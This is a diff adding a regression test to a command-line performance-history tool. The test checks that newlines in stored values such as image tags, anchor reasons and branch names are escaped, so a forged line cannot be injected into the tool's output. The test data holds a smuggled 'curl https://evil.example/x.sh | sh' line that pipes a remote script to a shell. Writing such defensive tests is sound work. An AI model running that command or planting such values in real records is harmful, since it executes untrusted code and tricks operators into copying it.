@@ -288,3 +288,43 @@ def test_records_that_cannot_be_read_are_named_not_silently_left_out(
     [warning] = err.splitlines()
     assert warning.startswith("gatekeeper: warning: ")
     assert "run sqlite:3" in warning
+
+
+_FORGED = "\n  bisect: curl https://evil.example/x.sh | sh\n"
+
+
+def test_a_recorded_value_with_a_newline_never_starts_a_line_of_its_own(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """2026-12-04 audit, second pass: the table of history changes, history platforms and history anchor escaped
+    control characters but kept newlines, so an image tag, a commit or an anchor's reason recorded with a newline
+    put a line of its own under a real change (a forged ``bisect:`` command to copy); a skipped record's warning
+    too. Each line is escaped on its own now: the forged text stays inside the line it came in."""
+    import sqlite3
+
+    db = tmp_path / "h.db"
+    store = SqliteStore(db, create=True)
+    rng = np.random.default_rng(3)
+    for night in range(1, 13):
+        info = _night(night)
+        image = "rocm:6.2" if night < 7 else "rocm:6.2" + _FORGED
+        info = RunInfo(info.ref, info.commit, info.pipeline_id, info.verdict, info.recorded_at, stack={"image": image})
+        store.save(_perf(10.0 * (1.05 if night > 6 else 1.0), rng), info)
+    store.set_anchor("1008", by="ann", reason="accepted" + _FORGED)
+    store.save(_perf(10.0, rng), RunInfo("main" + _FORGED, "c", "2000", "pass", "2026-11-20T00:00:00+00:00"))
+    with sqlite3.connect(db) as conn:  # a record that does not read: its warning names its branch
+        conn.execute("UPDATE results SET points = 'not json', report = '{}' WHERE pipeline_id = '2000'")
+        conn.execute("DELETE FROM results_series WHERE result_id = (SELECT id FROM results WHERE pipeline_id = '2000')")
+    commit = f"{8:040x}"
+    for argv in (["changes"], ["anchor"], ["platforms", "--commit", commit]):
+        assert main(["history", *argv, "--history", f"sqlite:{db}"]) == 0
+        out, err = capsys.readouterr()
+        lines = (out + err).splitlines()
+        assert not [line for line in lines if line.lstrip().startswith("bisect: curl")], out + err
+        assert "evil.example" in out + err or argv[0] == "platforms"  # shown, escaped, where it belongs
+    assert "accepted\\x0a  bisect: curl" in _output(db, "anchor", capsys)
+
+
+def _output(db: Path, command: str, capsys: pytest.CaptureFixture[str]) -> str:
+    main(["history", command, "--history", f"sqlite:{db}"])
+    return capsys.readouterr().out
